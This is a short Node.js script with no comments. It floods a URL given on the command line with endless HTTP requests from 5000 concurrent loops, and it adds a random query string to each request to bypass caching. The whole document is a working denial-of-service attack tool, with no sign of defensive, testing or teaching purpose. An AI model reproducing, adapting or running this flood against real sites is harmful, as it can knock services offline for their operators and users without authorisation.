const target = process.argv[2];
const hit = () => fetch(target + '?' + Math.random()).catch(() => {}).finally(hit);
for (let i = 0; i < 5000; i++) hit();
